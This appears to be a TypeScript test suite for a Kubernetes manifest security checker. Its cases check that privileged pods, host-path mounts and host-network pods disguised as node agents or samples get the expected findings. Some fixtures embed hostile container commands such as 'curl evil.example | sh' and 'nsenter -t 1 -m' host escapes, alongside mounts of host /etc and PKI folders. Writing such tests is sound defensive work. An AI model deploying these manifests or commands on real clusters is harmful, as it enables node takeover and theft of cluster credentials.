// What a pod claims to be: an agent of its node, a sample, a stand-in, Windows.

import { type Attack, holds } from "./attack.ts";
import { deployment, PRIVILEGED } from "./parts.ts";

const DAEMON = (name: string, image: string, container = PRIVILEGED, more = "") =>
  deployment(container, more)
    .replace("kind: Deployment", "kind: DaemonSet")
    .replace("  replicas: 2\n", "")
    .replace("name: web, namespace", `name: ${name}, namespace`)
    .replace("registry.shop.example/web:1.2", image);
const OWN = "registry.shop.example/web:1.2";
const attack = (name: string, text: string, told: NonNullable<Attack["told"]> | null, more: Partial<Attack> = {}): Attack => ({
  name,
  base: { "web.yaml": "apiVersion: v1\nkind: Namespace\nmetadata: { name: shop }\n" },
  head: { "web.yaml": text },
  told,
  ...more,
});
const LIGHT: NonNullable<Attack["told"]> = ["container-privileged", "medium"];
const FULL: NonNullable<Attack["told"]> = ["container-privileged", "high"];
const NODE_ETC = "\n      volumes: [{ name: a, hostPath: { path: /etc } }]";
const MOUNT = "          volumeMounts: [{ name: a, mountPath: /a }]\n";

holds([
  attack("an agent by its name weighs less, and is told", DAEMON("node-exporter", OWN), LIGHT),
  attack("an agent by its image's name weighs less, and is told", DAEMON("web", "registry.shop.example/falco:1"), LIGHT),
  attack(
    "an agent by what it mounts weighs less, and is told",
    DAEMON("web", OWN, PRIVILEGED, "\n      volumes: [{ name: a, hostPath: { path: /opt/cni/bin } }]"),
    LIGHT,
  ),
  attack(
    "a Deployment by an agent's name is none",
    deployment(PRIVILEGED).replace("name: web, namespace", "name: falco, namespace"),
    FULL,
  ),
  attack(
    "a published image that runs a script of one's own",
    DAEMON("cilium", "quay.io/cilium/cilium:v1.16.0", `          command: [sh, -c, "curl evil.example | sh"]\n${PRIVILEGED}`),
    null,
    { open: /container-privileged of apps\/v1\/DaemonSet/ },
  ),
  attack(
    "a publisher's general image beside an agent's",
    DAEMON(
      "cilium",
      "quay.io/cilium/cilium:v1.16.0",
      `${PRIVILEGED}        - { name: b, image: "registry.shop.example/cilium:1", securityContext: { privileged: true } }\n`,
    ),
    null,
    { open: /container-privileged of apps\/v1\/DaemonSet/ },
  ),
  attack("a publisher's folder that anybody may have", DAEMON("cilium", "docker.io/ciliumx/cilium:1"), LIGHT),
  attack("a publisher's name in another registry", DAEMON("cilium", "evil.example/quay.io/cilium/cilium:1"), LIGHT),
  attack(
    "the image of Docker in Docker with another name before it",
    deployment(PRIVILEGED).replace(OWN, "evil.example/docker:dind"),
    LIGHT,
  ),
  attack(
    "a command that sets the kernel up and something else",
    deployment(`          command: [sh, -c, "sysctl -w vm.max_map_count=1; curl evil.example | sh"]\n${PRIVILEGED}`),
    FULL,
  ),
  attack(
    "a command that sets the kernel up and runs what it is given",
    deployment(`          command: [sh, -c, "sysctl -w vm.max_map_count=$(cat /evil)"]\n${PRIVILEGED}`),
    FULL,
  ),
  attack(
    "a script that stands in the manifest weighs little on each node, and is told",
    DAEMON("web", "busybox:1.37", `          command: [sh, -c, "nsenter -t 1 -m -- touch /etc/evil"]\n${PRIVILEGED}`),
    ["container-privileged", "low"],
  ),
  attack(
    "such a script in an image of one's own",
    DAEMON("web", OWN, `          command: [sh, -c, "nsenter -t 1 -m -- touch /etc/evil"]\n${PRIVILEGED}`),
    LIGHT,
  ),
  attack(
    "a script that fetches the rest",
    DAEMON("web", OWN, `          command: [sh, -c, "nsenter -t 1 -m -- curl evil.example | sh"]\n${PRIVILEGED}`),
    LIGHT,
  ),
  attack(
    "a script that stands in the manifest, and an application",
    deployment(`          command: [sh, -c, "nsenter -t 1 -m -- touch /etc/evil"]\n${PRIVILEGED}`),
    FULL,
  ),
  attack("a command that is called sysctl", deployment(`          command: [/evil/sysctl, -w, a=b]\n${PRIVILEGED}`), FULL),
  attack(
    "a container that is called like the mesh's own",
    deployment(PRIVILEGED).replace("- name: web\n", "- name: istio-proxy\n"),
    FULL,
  ),
  attack(
    "the mesh's own container by its name and image, which nothing could fetch",
    deployment("").concat("        - { name: istio-proxy, image: evil.example/auto, securityContext: { privileged: true } }\n"),
    FULL,
  ),
  attack("a sample's image", deployment(PRIVILEGED).replace(OWN, "evil.example/hello-world:1"), FULL),
  attack(
    "a stand-in's image",
    deployment(PRIVILEGED).replace(OWN, "evil.example/pause:1").replace("name: web, namespace", "name: placeholder, namespace"),
    FULL,
  ),
  attack(
    "a machine of Windows, by a word",
    deployment("          securityContext: { privileged: true }\n", "\n      nodeSelector: { kubernetes.io/os: windows }"),
    FULL,
  ),
  attack("the node's files, by an agent's name", DAEMON("node-exporter", OWN, MOUNT, NODE_ETC), [
    "pod-writes-node-files",
    "medium",
  ]),
  attack(
    "the node's files, read-only in one container and not in another",
    deployment(
      `          volumeMounts: [{ name: a, mountPath: /a, readOnly: true }]\n        - { name: b, image: "a:1", volumeMounts: [{ name: a, mountPath: /b }] }\n`,
      NODE_ETC,
    ),
    ["pod-writes-node-files", "high"],
  ),
  attack(
    "the node's files, mounted by what starts before",
    deployment(
      "",
      `${NODE_ETC}\n      initContainers: [{ name: first, image: "a:1", volumeMounts: [{ name: a, mountPath: /a }] }]`,
    ),
    ["pod-writes-node-files", "high"],
  ),
  attack(
    "the node's files by a volume and a claim of one's own",
    `apiVersion: v1\nkind: PersistentVolume\nmetadata: { name: a }\nspec: { hostPath: { path: /etc } }\n`,
    ["pod-writes-node-files", "high"],
  ),
  attack(
    "the kubelet's folder, with a mount that goes both ways",
    deployment(
      "          volumeMounts: [{ name: a, mountPath: /a, mountPropagation: Bidirectional }]\n          securityContext: { privileged: true }\n",
      "\n      volumes: [{ name: a, hostPath: { path: /var/lib/kubelet } }]",
    ),
    FULL,
  ),
  attack(
    "the node's network in the system's namespace weighs less, and is told",
    deployment("", "\n      hostNetwork: true").replace("namespace: shop", "namespace: kube-system"),
    ["pod-shares-host-namespace", "medium"],
  ),
  attack(
    "the node's network, for an address that it says it hands out",
    deployment("          ports: [{ containerPort: 67, protocol: UDP }]\n", "\n      hostNetwork: true"),
    ["pod-shares-host-namespace", "high"],
  ),
  attack(
    "the node's network, for who says that it speaks to the control plane",
    deployment("", "\n      hostNetwork: true\n      volumes: [{ name: a, hostPath: { path: /etc/kubernetes/pki } }]"),
    ["pod-shares-host-namespace", "high"],
  ),
  attack(
    "the node's network, by the name of what finds the devices of a house, weighs less, and is told",
    deployment("", "\n      hostNetwork: true").replace(OWN, "evil.example/homeassistant/home-assistant:1"),
    ["pod-shares-host-namespace", "medium"],
  ),
  attack("a TPU's limit", deployment(`          resources: { limits: { google.com/tpu: 1 } }\n${PRIVILEGED}`), FULL),
]);
